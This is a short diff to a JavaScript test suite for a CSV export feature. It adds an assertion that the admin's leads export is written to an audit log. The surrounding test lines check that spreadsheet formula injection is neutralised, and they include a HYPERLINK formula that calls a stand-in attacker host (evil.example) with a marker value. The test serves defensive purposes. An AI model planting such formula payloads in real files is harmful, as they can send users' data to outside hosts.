@@ -334,6 +334,12 @@ describe('the CSV', () => {
     expect(lines[2]).toContain(`"'=HYPERLINK(""http://evil.example?${mark}"",""x"")"`);
     expect(lines[2]).toContain(`'-1+2`);
     expect(lines[2]).toContain(`'+234802`);
+    const [recorded] = await harness.waitForMessages('audit', admin.userId, 1);
+    expect(recorded?.value.payload).toMatchObject({
+      actor: { userId: admin.userId, role: 'admin' },
+      action: 'leads.export',
+      after: { filter: { search: `a text of ${mark.length} characters` } },
+    });
   });
 });
 
